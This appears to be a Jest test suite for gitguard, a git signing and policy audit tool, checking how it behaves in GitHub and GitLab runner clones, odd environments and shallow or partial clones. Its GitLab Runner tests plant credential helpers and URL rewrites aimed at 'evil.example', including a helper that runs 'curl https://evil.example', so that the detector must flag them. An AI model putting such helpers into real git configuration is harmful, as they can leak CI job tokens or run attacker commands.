// Clean repositories in the places gitguard runs: CI runners' clones (as actions/checkout and GitLab
// Runner make them, fetched over the pack protocol, so a commit no ref holds is not there) and the
// environments runners and hooks give it. Each case was a false failure or must stay a pass; each fix
// keeps a twin that still fails.
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { cleanupTemp, tempDir, type TestRepo } from '../helpers/repo.js';
import { makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { ALICE_POLICY, sshSigningRepo, tryGit } from '../helpers/signing-repo.js';
import { BIN, runCommand, runMain, parseJson, resultOf, type JsonReport } from '../helpers/cli.js';

let alice: SshTestKey;
beforeAll(() => {
  alice = makeSshKey(mkdtempSync(join(tmpdir(), 'gg-cleanenv-')), 'ed25519', 'alice');
});
afterAll(cleanupTemp);

const RULES = [
  'commits-signed',
  'signatures-valid',
  'signers-authorized',
  'policy-changes-authorized',
  'protected-refs-not-rewritten',
  'history-complete',
];
const failing = (report: JsonReport): string[] =>
  RULES.filter((id) => !['pass', 'not-applicable'].includes(resultOf(report, id).outcome));

const audit = async (dir: string, env: NodeJS.ProcessEnv, extra: string[] = []) => {
  const res = await runMain(
    ['audit', '-C', dir, '--format', 'json', '--no-cache', '--no-ledger', '-r', RULES.join(','), ...extra],
    { env },
  );
  return { code: res.code, stderr: res.stderr, report: res.code === 2 ? undefined : parseJson(res) };
};

/** A bare origin holding `r`'s main. */
function originOf(r: TestRepo): string {
  const origin = join(tempDir(), 'origin.git');
  r.run(['init', '-q', '--bare', origin]);
  r.run(['push', '-q', origin, 'main']);
  return origin;
}

/** A runner's clone: fetched through file:// (the pack protocol, as over HTTPS), then `checkout` args. */
function runnerClone(r: TestRepo, origin: string, refspecs: string[], checkout: string[]): string {
  const ci = join(tempDir(), 'ci');
  r.run(['init', '-q', ci]);
  r.run(['-C', ci, 'remote', 'add', 'origin', `file://${origin}`]);
  r.run(['-C', ci, 'fetch', '-q', '--prune', '--no-recurse-submodules', 'origin', ...refspecs]);
  r.run(['-C', ci, 'checkout', '-q', '--force', ...checkout]);
  return ci;
}

describe('a GitHub pull_request run with `args: --all` (the action, actions/checkout with fetch-depth: 0)', () => {
  // actions/checkout fetches the test merge into refs/remotes/pull/<n>/merge and checks it out
  // detached. Without --all its parents were judged instead of it; with --all it was walked as a
  // remote-tracking branch and as HEAD, and GitHub's unsigned merge failed commits-signed.
  let r: TestRepo;
  let origin: string;
  let pr: string;
  let merge: string;
  /** GitHub's test merge of `head` into main, unsigned, as refs/pull/1/merge on the origin. */
  const testMerge = (head: string): string => {
    const base = r.run(['rev-parse', 'main']);
    const tree = r.run(['merge-tree', '--write-tree', base, head]);
    const sha = r.run(['commit-tree', tree, '-p', base, '-p', head, '-m', `Merge ${head} into ${base}`], {
      env: { GIT_COMMITTER_NAME: 'GitHub', GIT_COMMITTER_EMAIL: 'noreply@github.com' },
    });
    r.run(['push', '-q', '-f', origin, `${head}:refs/pull/1/head`, `${sha}:refs/pull/1/merge`]);
    return sha;
  };
  const checkout = (sha: string): string =>
    runnerClone(
      r,
      origin,
      ['+refs/heads/*:refs/remotes/origin/*', '+refs/tags/*:refs/tags/*', `+${sha}:refs/remotes/pull/1/merge`],
      ['refs/remotes/pull/1/merge'],
    );
  const prEnv = (sha: string, over: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({
    ...r.env,
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_REF: 'refs/pull/1/merge',
    GITHUB_SHA: sha,
    ...over,
  });

  beforeAll(() => {
    r = sshSigningRepo(alice);
    r.commit('work', { 'src/a.txt': 'a\n' });
    origin = originOf(r);
    r.run(['checkout', '-q', '-b', 'feature']);
    pr = r.commit('feature', { 'src/f.txt': 'f\n' });
    r.run(['checkout', '-q', 'main']);
    r.commit('main moves on', { 'src/m.txt': 'm\n' });
    r.run(['push', '-q', origin, 'main']);
    merge = testMerge(pr);
  });

  test('its parents stand in for the test merge under --all too: every rule passes, and the scope says so', async () => {
    const ci = checkout(merge);
    for (const extra of [['--all'], []]) {
      const { code, report } = await audit(ci, prEnv(merge), extra);
      expect(failing(report!)).toEqual([]);
      expect(code).toBe(0);
      expect(report!.scope.description).toContain("is GitHub's test merge refs/pull/1/merge, never pushed: not judged");
    }
  });

  test('twins: outside the pull_request run, or for another commit, the unsigned test merge fails --all', async () => {
    const ci = checkout(merge);
    for (const env of [r.env, prEnv(merge, { GITHUB_SHA: pr }), prEnv(merge, { GITHUB_EVENT_NAME: 'push' })]) {
      const { code, report } = await audit(ci, env, ['--all']);
      expect(resultOf(report!, 'commits-signed').outcome).toBe('fail');
      expect(code).toBe(1);
    }
  });

  test('twins: an unsigned commit in the pull request, or one made on top of the test merge, still fails --all', async () => {
    r.run(['checkout', '-q', pr]);
    const unsigned = r.commit('unsigned', { 'src/u.txt': 'u\n' }, ['--no-gpg-sign']);
    r.run(['checkout', '-q', 'main']);
    const bad = testMerge(unsigned);
    const ci = checkout(bad);
    const res = await audit(ci, prEnv(bad), ['--all']);
    expect(resultOf(res.report!, 'commits-signed').findings.map((f) => f.commit)).toEqual([unsigned]);

    const ci2 = checkout(merge);
    tryGit(r, ['-C', ci2, 'checkout', '-q', '-b', 'on-top']);
    writeFileSync(join(ci2, 'top.txt'), 'top\n');
    tryGit(r, ['-C', ci2, 'add', 'top.txt']);
    tryGit(r, [
      '-C',
      ci2,
      '-c',
      `user.signingkey=${alice.path}`,
      '-c',
      'gpg.format=ssh',
      'commit',
      '-q',
      '-S',
      '-m',
      'top',
    ]);
    const top = await audit(ci2, prEnv(merge), ['--all']);
    expect(resultOf(top.report!, 'commits-signed').findings.map((f) => f.commit)).toEqual([merge]);
    r.run(['push', '-q', '-f', origin, `${pr}:refs/pull/1/head`, `${merge}:refs/pull/1/merge`]);
  });
});

describe('a GitLab merged results pipeline with --all (GITGUARD_ARGS)', () => {
  // GitLab Runner fetches the pipeline's internal merge as refs/pipelines/<id> and checks it out
  // detached: the forge ref is left out of --all, but HEAD, the same unsigned merge, was walked.
  test('its parents stand in for the internal merge; twin: an unsigned commit in the merge request fails', async () => {
    const r = sshSigningRepo(alice);
    r.commit('work', { 'src/a.txt': 'a\n' });
    const origin = originOf(r);
    const run = async (source: string) => {
      const target = r.run(['rev-parse', 'main']);
      const tree = r.run(['merge-tree', '--write-tree', target, source]);
      const message = "Merge branch 'feature' into 'main'\n\nSee merge request group/app!7";
      const merge = r.run(['commit-tree', tree, '-p', target, '-p', source, '-m', message]);
      r.run(['push', '-q', '-f', origin, `${merge}:refs/pipelines/42`]);
      const ci = runnerClone(
        r,
        origin,
        ['+refs/pipelines/42:refs/pipelines/42', '+refs/heads/*:refs/remotes/origin/*', '+refs/tags/*:refs/tags/*'],
        ['--detach', merge],
      );
      return audit(
        ci,
        {
          ...r.env,
          GITLAB_CI: 'true',
          CI_PIPELINE_SOURCE: 'merge_request_event',
          CI_MERGE_REQUEST_IID: '7',
          CI_COMMIT_SHA: merge,
          CI_MERGE_REQUEST_TARGET_BRANCH_SHA: target,
          CI_MERGE_REQUEST_SOURCE_BRANCH_SHA: source,
        },
        ['--all'],
      );
    };
    r.run(['checkout', '-q', '-b', 'feature']);
    const signed = r.commit('feature', { 'src/f.txt': 'f\n' });
    r.run(['checkout', '-q', 'main']);
    const ok = await run(signed);
    expect(failing(ok.report!)).toEqual([]);
    expect(ok.code).toBe(0);
    expect(ok.report!.scope.description).toContain("is GitLab's test merge refs/merge-requests/7/merge");

    r.run(['checkout', '-q', 'feature']);
    const unsigned = r.commit('unsigned', { 'src/u.txt': 'u\n' }, ['--no-gpg-sign']);
    r.run(['checkout', '-q', 'main']);
    const bad = await run(unsigned);
    expect(resultOf(bad.report!, 'commits-signed').findings.map((f) => f.commit)).toEqual([unsigned]);
  });
});

describe("CI's --base after a forced push of a topic branch, in a runner's clone (the old tip is not fetched)", () => {
  // The README's recipe passes github.event.before / CI_COMMIT_BEFORE_SHA as --base. A runner fetches
  // what the branches hold now, so after a rebase and force-push of a topic branch the old tip is not
  // in the clone, and every such push stopped with exit 2 ("not a commit") where a local clone (which
  // copies every object) passed. In a complete clone a missing --base proves HEAD does not descend
  // from it; for a branch nothing protects, HEAD's whole history is judged instead.
  let r: TestRepo;
  let origin: string;
  let before: string;
  let eventFile: string;
  const TOPIC_POLICY = ALICE_POLICY + 'protected:\n  refs: [refs/heads/main, refs/heads/topic]\n';
  beforeAll(() => {
    r = sshSigningRepo(alice);
    r.commit('work', { 'src/a.txt': 'a\n' });
    origin = originOf(r);
    r.run(['checkout', '-q', '-b', 'topic']);
    before = r.commit('topic work', { 'src/t.txt': 't\n' });
    r.run(['push', '-q', origin, 'topic']);
    r.run(['checkout', '-q', 'main']);
    r.commit('main moves on', { 'src/m.txt': 'm\n' });
    r.run(['push', '-q', origin, 'main']);
    r.run(['checkout', '-q', 'topic']);
    r.run(['rebase', '-q', 'main']);
    r.run(['push', '-q', '-f', origin, 'topic']);
    r.run(['checkout', '-q', 'main']);
    eventFile = join(tempDir(), 'event.json');
    writeFileSync(eventFile, JSON.stringify({ forced: true, repository: { default_branch: 'main' } }));
  });
  /** actions/checkout with fetch-depth: 0 on a push of the topic branch. */
  const github = (extra: string[] = []) =>
    runnerClone(
      r,
      origin,
      ['+refs/heads/*:refs/remotes/origin/*', '+refs/tags/*:refs/tags/*', ...extra],
      ['-B', 'topic', 'refs/remotes/origin/topic'],
    );
  /**
   * GitLab Runner with GIT_DEPTH: 0 on a branch pipeline: only that branch, HEAD detached; and the
   * default branch the README's recipe fetches (its policy says whether the branch is protected;
   * without it, redteam11-ci-base-gone.test.ts).
   */
  const gitlab = () =>
    runnerClone(
      r,
      origin,
      [
        '+refs/heads/topic:refs/remotes/origin/topic',
        '+refs/tags/*:refs/tags/*',
        '+refs/heads/main:refs/remotes/origin/main',
      ],
      ['--detach', 'refs/remotes/origin/topic'],
    );
  const head = (ci: string) => tryGit(r, ['rev-parse', 'HEAD'], ci).stdout.trim();
  const githubEnv = (ci: string, over: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({
    ...r.env,
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: 'push',
    GITHUB_REF: 'refs/heads/topic',
    GITHUB_SHA: head(ci),
    GITHUB_EVENT_PATH: eventFile,
    GITHUB_REF_PROTECTED: 'false',
    ...over,
  });
  const gitlabEnv = (ci: string, over: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({
    ...r.env,
    GITLAB_CI: 'true',
    CI_PIPELINE_SOURCE: 'push',
    CI_COMMIT_BRANCH: 'topic',
    CI_COMMIT_SHA: head(ci),
    CI_DEFAULT_BRANCH: 'main',
    CI_COMMIT_REF_PROTECTED: 'false',
    ...over,
  });

  test('GitHub Actions and GitLab CI: the rebased topic passes; the note says why --base was not applied', async () => {
    for (const [ci, env] of [
      [github(), githubEnv],
      [gitlab(), gitlabEnv],
    ] as const) {
      expect(tryGit(r, ['cat-file', '-e', before], ci).code).not.toBe(0);
      const { code, report, stderr } = await audit(ci, env(ci), ['--base', before]);
      expect(stderr).toBe('');
      expect(failing(report!)).toEqual([]);
      expect(code).toBe(0);
      expect(resultOf(report!, 'protected-refs-not-rewritten').note).toMatch(
        new RegExp(
          `^--base not applied: ${before.slice(0, 12)} is not in the clone \\(a forced push replaced it, so HEAD's whole history is judged;.*refs/heads/topic is not a protected branch`,
        ),
      );
      expect(report!.scope.commits).toBe(4);
    }
  });

  test('twins: protected by the forge, the default branch, no CI, a shallow clone, a --base not a full id: exit 2', async () => {
    const ci = github();
    const cases: Array<[string, NodeJS.ProcessEnv, string]> = [
      [ci, githubEnv(ci, { GITHUB_REF_PROTECTED: 'true' }), before],
      [ci, githubEnv(ci, { GITHUB_EVENT_PATH: join(tempDir(), 'missing.json') }), before],
      [ci, githubEnv(ci, { GITHUB_REF: 'refs/heads/main' }), before],
      [ci, r.env, before],
      [ci, githubEnv(ci), before.slice(0, 12)],
    ];
    const shallow = join(tempDir(), 'shallow');
    r.run(['clone', '-q', '--depth', '2', '-b', 'topic', `file://${origin}`, shallow]);
    cases.push([shallow, githubEnv(shallow), before]);
    for (const [dir, env, base] of cases) {
      const { code, stderr } = await audit(dir, env, ['--base', base]);
      expect([code, stderr]).toEqual([2, expect.stringMatching(/^gitguard: --base "[0-9a-f]+" is not a commit in /)]);
    }
  });

  test("twins: the topic named by the policy at HEAD or at the default branch's tip: exit 2", async () => {
    const p = sshSigningRepo(alice, TOPIC_POLICY);
    p.commit('work', { 'src/a.txt': 'a\n' });
    const o = originOf(p);
    p.run(['checkout', '-q', '-b', 'topic']);
    const old = p.commit('topic work', { 'src/t.txt': 't\n' });
    p.run(['push', '-q', o, 'topic']);
    p.run(['commit', '-q', '--amend', '-m', 'topic work, amended']);
    p.run(['push', '-q', '-f', o, 'topic']);
    // HEAD's own policy names the topic.
    const ci = runnerClone(p, o, ['+refs/heads/*:refs/remotes/origin/*'], ['-B', 'topic', 'refs/remotes/origin/topic']);
    const env = { ...githubEnv(ci), ...p.env, GITHUB_SHA: tryGit(p, ['rev-parse', 'HEAD'], ci).stdout.trim() };
    expect((await audit(ci, env, ['--base', old])).code).toBe(2);
    // Only the default branch's policy names it (the topic forked before that change).
    p.run(['checkout', '-q', 'main']);
    p.write({ '.gitguard/policy.yml': ALICE_POLICY });
    p.run(['add', '-A']);
    p.run(['commit', '-q', '-m', 'policy: topic not protected']);
    p.run(['checkout', '-q', 'topic']);
    p.run(['rebase', '-q', 'main']);
    p.run(['push', '-q', '-f', o, 'topic']);
    p.run(['checkout', '-q', 'main']);
    p.write({ '.gitguard/policy.yml': TOPIC_POLICY });
    p.run(['add', '-A']);
    p.run(['commit', '-q', '-m', 'policy: topic protected again']);
    p.run(['push', '-q', o, 'main']);
    const ci2 = runnerClone(
      p,
      o,
      ['+refs/heads/*:refs/remotes/origin/*'],
      ['-B', 'topic', 'refs/remotes/origin/topic'],
    );
    const env2 = { ...githubEnv(ci2), ...p.env, GITHUB_SHA: tryGit(p, ['rev-parse', 'HEAD'], ci2).stdout.trim() };
    expect(tryGit(p, ['show', 'HEAD:.gitguard/policy.yml'], ci2).stdout).not.toContain('topic');
    expect((await audit(ci2, env2, ['--base', old])).code).toBe(2);
  });

  test('twin: an unsigned commit anywhere in the rebased topic still fails commits-signed', async () => {
    r.run(['checkout', '-q', 'topic']);
    const unsigned = r.commit('unsigned', { 'src/u.txt': 'u\n' }, ['--no-gpg-sign']);
    r.run(['push', '-q', origin, 'topic']);
    r.run(['reset', '-q', '--hard', 'HEAD~1']);
    r.run(['checkout', '-q', 'main']);
    const ci = github();
    const { code, report } = await audit(ci, githubEnv(ci), ['--base', before]);
    expect(resultOf(report!, 'commits-signed').findings.map((f) => f.commit)).toEqual([unsigned]);
    expect(code).toBe(1);
  });
});

describe("the environments runners and hooks give gitguard (these passed, but for the missing HOME's side effect)", () => {
  let r: TestRepo;
  beforeAll(() => {
    r = sshSigningRepo(alice);
    r.commit('work', { 'src/a.txt': 'a\n' });
  });
  const gate = async (env: NodeJS.ProcessEnv, cwd?: string) => {
    const res = await runMain(['audit', ...(cwd ? [] : ['-C', r.dir]), '--format', 'json', '-r', RULES.join(',')], {
      env,
      ...(cwd ? { cwd } : {}),
    });
    return { code: res.code, report: parseJson(res) };
  };

  test('a HOME that names no folder (a service user, a container) is not created; the audit passes without state', async () => {
    const missing = join(tempDir(), 'nonexistent');
    const { XDG_CACHE_HOME: _, ...env } = r.env;
    const { code, report } = await gate({ ...env, HOME: missing });
    expect(failing(report)).toEqual([]);
    expect(code).toBe(0);
    expect(existsSync(missing)).toBe(false);
  });

  test('HOME unset, XDG_CACHE_HOME a file, GIT_CONFIG_GLOBAL=/dev/null, LANG=C, TERM=dumb, the GIT_DIR a hook exports: all pass', async () => {
    const file = join(tempDir(), 'not-a-folder');
    writeFileSync(file, '');
    const { HOME: _, ...noHome } = r.env;
    for (const env of [
      { ...noHome, XDG_CACHE_HOME: join(tempDir(), 'cache') }, // not the machine's own ~/.cache
      { ...r.env, XDG_CACHE_HOME: file },
      { ...r.env, GIT_CONFIG_GLOBAL: '/dev/null', LANG: 'C', LC_ALL: 'C', TERM: 'dumb' },
    ]) {
      const { code, report } = await gate(env);
      expect(failing(report)).toEqual([]);
      expect(code).toBe(0);
    }
    // git runs a hook in the work tree with GIT_DIR=.git; husky's `gitguard hook run pre-push` audits from there.
    const { code, report } = await gate({ ...r.env, GIT_DIR: '.git' }, r.dir);
    expect(failing(report)).toEqual([]);
    expect(code).toBe(0);
  });

  test('GIT_DIR set by a runner, gitguard started elsewhere: exit 2 saying GIT_DIR is not read and to pass -C', async () => {
    const elsewhere = tempDir();
    const res = await runMain(['audit', '-r', 'commits-signed'], {
      env: { ...r.env, GIT_DIR: join(r.dir, '.git') },
      cwd: elsewhere,
    });
    expect(res.code).toBe(2);
    expect(res.stderr).toBe(
      `gitguard: not a git repository: ${elsewhere}; gitguard does not read GIT_DIR (${join(r.dir, '.git')}): pass the repository with -C PATH\n`,
    );
  });
});

describe('a container user with no passwd entry and no HOME (docker run --user 54321, a random OpenShift uid)', () => {
  // node's os.homedir() throws for such a user, and gitguard asked it for the state secret's folder:
  // every run stopped as "internal error ... this is a bug". Only root can run a process as another uid.
  // ...and only when that uid can read gitguard itself: a checkout in a private folder (mktemp -d) it cannot.
  const readableByOthers = (file: string): boolean => {
    if ((statSync(file).mode & 0o004) === 0) return false;
    for (let d = dirname(file); ; d = dirname(d)) {
      if ((statSync(d).mode & 0o001) === 0) return false;
      if (d === dirname(d)) return true;
    }
  };
  const asRoot = process.getuid?.() === 0 && existsSync('/usr/bin/setpriv') && readableByOthers(BIN) ? test : test.skip;
  const chownTree = (path: string, id: number): void => {
    chownSync(path, id, id);
    if (statSync(path).isDirectory()) for (const name of readdirSync(path)) chownTree(join(path, name), id);
  };
  asRoot('the audit runs and passes, without state; read-only, it passes and says the ledger was not written', () => {
    const r = sshSigningRepo(alice);
    r.commit('work', { 'src/a.txt': 'a\n' });
    const root = mkdtempSync('/tmp/gg-nohome-'); // jest's temp folder is private to this user
    try {
      chmodSync(root, 0o755);
      const repo = join(root, 'repo');
      r.run(['clone', '-q', r.dir, repo]);
      chownTree(repo, 54321);
      const res = runCommand(
        '/usr/bin/setpriv',
        [
          '--reuid=54321',
          '--regid=54321',
          '--clear-groups',
          process.execPath,
          BIN,
          'audit',
          '-C',
          repo,
          '--format',
          'json',
          '--no-ledger',
          '-r',
          RULES.join(','),
        ],
        { env: { PATH: process.env.PATH, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' } },
      );
      expect(res.stderr).toBe('');
      expect(failing(parseJson(res))).toEqual([]);
      expect(res.code).toBe(0);
      // A read-only checkout (a mounted volume, a cached build folder): the verdict stands, the ledger is said not written.
      runCommand('chmod', ['-R', 'a-w', repo]);
      const ro = runCommand(
        '/usr/bin/setpriv',
        [
          '--reuid=54321',
          '--regid=54321',
          '--clear-groups',
          process.execPath,
          BIN,
          'audit',
          '-C',
          repo,
          '--format',
          'json',
          '-t',
          'impersonation,history',
        ],
        { env: { PATH: process.env.PATH, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' } },
      );
      expect(failing(parseJson(ro))).toEqual([]);
      expect(ro.code).toBe(0);
      expect(ro.stderr).toBe(
        `gitguard: ledger not updated: cannot write it: ${join(repo, '.git', 'gitguard')}: cannot be written: permission denied (rewrite protection does not cover the current tips)\n`,
      );
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe("GitLab Runner's checkout with FF_GIT_URLS_WITHOUT_TOKENS (the default since GitLab 18.0)", () => {
  // The runner keeps the job token out of the URL: the checkout's local config includes a file in the
  // build's temp folder that sets a credential helper printing $CI_JOB_TOKEN for the job's server.
  // no-code-execution-in-local-config (high) failed every job on it.
  const HELPER = '!f(){ if [ "$1" = "get" ] ; then echo "password=${CI_JOB_TOKEN}" ; fi ; } ; f';
  const RUNNER_RULES = ['no-code-execution-in-local-config', 'remote-urls-without-credentials'];
  let r: TestRepo;
  let ext: string;
  beforeAll(() => {
    r = sshSigningRepo(alice);
    r.commit('work', { 'src/a.txt': 'a\n' });
    ext = join(tempDir(), 'app.tmp', '.gitlab-runner.ext.conf');
    mkdirSync(dirname(ext));
    r.run(['remote', 'add', 'origin', 'https://gitlab.example.com/group/app.git']);
    for (const [k, v] of [
      ['init.defaultBranch', 'none'],
      ['fetch.recurseSubmodules', 'false'],
      ['credential.interactive', 'never'],
      ['gc.autoDetach', 'false'],
      ['include.path', ext],
    ])
      r.run(['config', k!, v!]);
  });
  /** The external config as the runner writes it (`git config -f`), its helper scoped to `server`. */
  const writeExt = (server: string, helper = HELPER) => {
    tryGit(r, [
      'config',
      '-f',
      ext,
      '--remove-section',
      'url.https://gitlab-ci-token:glcbt-64_planted@gitlab.example.com/group/app.git',
    ]);
    tryGit(r, ['config', '-f', ext, '--unset-all', 'credential.https://gitlab.example.com.helper']);
    tryGit(r, ['config', '-f', ext, '--remove-section', 'credential.https://evil.example']);
    r.run(['config', '-f', ext, '--replace-all', `credential.${server}.helper`, '']);
    r.run(['config', '-f', ext, '--add', `credential.${server}.helper`, helper]);
    r.run(['config', '-f', ext, `credential.${server}.username`, 'gitlab-ci-token']);
  };
  const job = (over: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv => ({
    ...r.env,
    GITLAB_CI: 'true',
    CI_SERVER_URL: 'https://gitlab.example.com',
    CI_REPOSITORY_URL: 'https://gitlab.example.com/group/app.git',
    CI_JOB_TOKEN: 'glcbt-64_0123456789abcdefghij',
    ...over,
  });
  const check = async (env: NodeJS.ProcessEnv) => {
    const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-ledger', '-r', RUNNER_RULES.join(',')], {
      env,
    });
    const report = parseJson(res);
    return { code: res.code, rule: resultOf(report, 'no-code-execution-in-local-config') };
  };

  test("in the job, the runner's helper for the job's server passes, and the note says so", async () => {
    writeExt('https://gitlab.example.com');
    const { code, rule } = await check(job());
    expect(rule.outcome).toBe('pass');
    expect(rule.note).toMatch(/1 credential helper\(s\) GitLab Runner wrote for this job/);
    expect(code).toBe(0);
  });

  test('with the flag off (GitLab 17): the job token in a url.<base>.insteadOf of that file passes in the job; twins fail', async () => {
    const token = 'glcbt-64_0123456789abcdefghij';
    const rewrite = (t: string) => {
      tryGit(r, ['config', '-f', ext, '--remove-section', 'credential.https://gitlab.example.com']);
      tryGit(r, ['config', '-f', ext, '--remove-section', 'credential.https://evil.example']);
      for (const old of ['glcbt-64_0123456789abcdefghij', 'glcbt-64_planted']) {
        tryGit(r, [
          'config',
          '-f',
          ext,
          '--remove-section',
          `url.https://gitlab-ci-token:${old}@gitlab.example.com/group/app.git`,
        ]);
      }
      r.run([
        'config',
        '-f',
        ext,
        `url.https://gitlab-ci-token:${t}@gitlab.example.com/group/app.git.insteadOf`,
        'https://gitlab.example.com/group/app.git',
      ]);
    };
    const urls = async (env: NodeJS.ProcessEnv) => {
      const res = await runMain(
        ['audit', '-C', r.dir, '--format', 'json', '--no-ledger', '-r', RUNNER_RULES.join(',')],
        { env },
      );
      expect(res.stdout).not.toContain(token);
      return { code: res.code, rule: resultOf(parseJson(res), 'remote-urls-without-credentials') };
    };
    rewrite(token);
    const ok = await urls(job());
    expect([ok.rule.outcome, ok.code]).toEqual(['pass', 0]);
    expect(ok.rule.note).toMatch(/^1 URL rewrite\(s\) \(url.<base>.insteadOf/);
    expect((await urls(r.env)).rule.outcome).toBe('fail');
    rewrite('glcbt-64_planted');
    expect((await urls(job())).rule.outcome).toBe('fail');
  });

  test('twins: outside the job, for another server, or a helper that does more, it fails', async () => {
    writeExt('https://gitlab.example.com');
    expect((await check(r.env)).rule.outcome).toBe('fail');
    expect((await check(job({ CI_SERVER_URL: 'https://other.example', CI_REPOSITORY_URL: '' }))).rule.outcome).toBe(
      'fail',
    );
    writeExt('https://evil.example');
    expect((await check(job())).rule.outcome).toBe('fail');
    writeExt('https://gitlab.example.com', HELPER.replace('; fi', '; curl https://evil.example ; fi'));
    expect((await check(job())).rule.outcome).toBe('fail');
  });
});

describe('the pre-push hook in a shallow clone (git clone --depth 1 of a big repository)', () => {
  // The first policy commit a shallow clone shows is on its boundary, so the trust root search refused
  // (exit 2) and the hook blocked every push, though a push judges only its new commits, which all
  // descend from that published commit: whatever root lies before it, they are judged alike.
  let r: TestRepo;
  let origin: string;
  beforeAll(() => {
    r = sshSigningRepo(alice);
    r.commit('one', { 'src/1.txt': '1\n' });
    r.run(['branch', 'release']);
    r.commit('two', { 'src/2.txt': '2\n' });
    origin = originOf(r);
    r.run(['push', '-q', origin, 'release']);
  });
  const shallowClone = (): string => {
    const dir = join(tempDir(), 'shallow');
    r.run(['clone', '-q', '--depth', '1', `file://${origin}`, dir]);
    for (const [k, v] of [
      ['gpg.format', 'ssh'],
      ['user.signingkey', alice.path],
      ['commit.gpgSign', 'true'],
    ])
      r.run(['-C', dir, 'config', k!, v!]);
    return dir;
  };
  const commitIn = (dir: string, name: string, args: string[] = []): string => {
    writeFileSync(join(dir, `${name}.txt`), `${name}\n`);
    r.run(['-C', dir, 'add', '-A']);
    r.run(['-C', dir, 'commit', '-q', '-m', name, ...args]);
    return r.run(['-C', dir, 'rev-parse', 'HEAD']);
  };
  const ZERO = '0'.repeat(40);
  const push = (dir: string, remote: string, lines: string[]) =>
    runMain(['hook', 'run', 'pre-push', remote, `file://${origin}`], {
      cwd: dir,
      env: r.env,
      input: lines.map((l) => `${l}\n`).join(''),
    });

  test('a signed commit on main, and a new branch, pass', async () => {
    const dir = shallowClone();
    const base = r.run(['-C', dir, 'rev-parse', 'HEAD']);
    const next = commitIn(dir, 'next');
    const main = await push(dir, 'origin', [`refs/heads/main ${next} refs/heads/main ${base}`]);
    expect([main.code, main.stderr]).toEqual([0, expect.stringContaining('1 new commit(s) checked, 0 rule(s) failed')]);
    r.run(['-C', dir, 'checkout', '-q', '-b', 'topic']);
    const topic = commitIn(dir, 'topic');
    const created = await push(dir, 'origin', [`refs/heads/topic ${topic} refs/heads/topic ${ZERO}`]);
    expect(created.code).toBe(0);
  });

  test('twins: an unsigned commit is refused; a push that reaches the boundary commit still stops (exit 2)', async () => {
    const dir = shallowClone();
    const base = r.run(['-C', dir, 'rev-parse', 'HEAD']);
    const unsigned = commitIn(dir, 'unsigned', ['--no-gpg-sign']);
    const res = await push(dir, 'origin', [`refs/heads/main ${unsigned} refs/heads/main ${base}`]);
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('commits-signed');
    // To a remote this clone knows nothing of, the boundary commit itself would be published.
    const signed = commitIn(dir, 'signed');
    const fresh = await push(dir, 'mirror', [`refs/heads/main ${signed} refs/heads/main ${ZERO}`]);
    expect(fresh.code).toBe(2);
    expect(fresh.stderr).toMatch(/is on the shallow boundary/);
  });

  test('twin: a commit on another shallow branch, not descending from the boundary HEAD shows, still stops (exit 2)', async () => {
    const dir = shallowClone();
    r.run(['-C', dir, 'fetch', '-q', '--depth', '1', 'origin', 'release:refs/remotes/origin/release']);
    const release = r.run(['-C', dir, 'rev-parse', 'refs/remotes/origin/release']);
    const tree = r.run(['-C', dir, 'rev-parse', `${release}^{tree}`]);
    const onRelease = r.run(['-C', dir, 'commit-tree', '-S', tree, '-p', release, '-m', 'backport']);
    const res = await push(dir, 'origin', [`refs/heads/release ${onRelease} refs/heads/release ${release}`]);
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/is on the shallow boundary/);
  });
});

describe('the pre-push hook in a partial clone (git clone --filter=blob:none) of a repository whose policy changed', () => {
  // The trust root search read the first policy's text only to see that it is a file; a blobless
  // clone does not have that old text, so every push stopped (exit 2). The tree entry says it.
  test('a signed commit passes; an unsigned one is refused; the audit still says what it cannot read (exit 2)', async () => {
    const r = sshSigningRepo(alice);
    r.commit('policy: a comment', { '.gitguard/policy.yml': `${ALICE_POLICY}# reviewed\n` });
    r.commit('work', { 'src/a.txt': 'a\n' });
    const origin = originOf(r);
    r.run(['-C', origin, 'config', 'uploadpack.allowFilter', 'true']);
    const dir = join(tempDir(), 'blobless');
    r.run(['clone', '-q', '--filter=blob:none', `file://${origin}`, dir]);
    for (const [k, v] of [
      ['gpg.format', 'ssh'],
      ['user.signingkey', alice.path],
    ])
      r.run(['-C', dir, 'config', k!, v!]);
    const base = r.run(['-C', dir, 'rev-parse', 'HEAD']);
    const commit = (name: string, sign: string): string => {
      writeFileSync(join(dir, `${name}.txt`), `${name}\n`);
      r.run(['-C', dir, 'add', '-A']);
      r.run(['-C', dir, 'commit', '-q', sign, '-m', name]);
      return r.run(['-C', dir, 'rev-parse', 'HEAD']);
    };
    const push = (to: string) =>
      runMain(['hook', 'run', 'pre-push', 'origin', `file://${origin}`], {
        cwd: dir,
        env: r.env,
        input: `refs/heads/main ${to} refs/heads/main ${base}\n`,
      });
    const signed = commit('signed', '-S');
    const ok = await push(signed);
    expect([ok.code, ok.stderr]).toEqual([0, expect.stringContaining('1 new commit(s) checked, 0 rule(s) failed')]);
    const unsigned = commit('unsigned', '--no-gpg-sign');
    const refused = await push(unsigned);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('commits-signed');
    const full = await runMain(['audit', '-C', dir, '--no-ledger', '-r', 'signers-authorized'], { env: r.env });
    expect(full.code).toBe(2);
    expect(full.stderr).toMatch(
      /\.gitguard\/policy\.yml at [0-9a-f]{12} \(object [0-9a-f]{12}\) is not in this repository: a partial clone/,
    );
  });
});
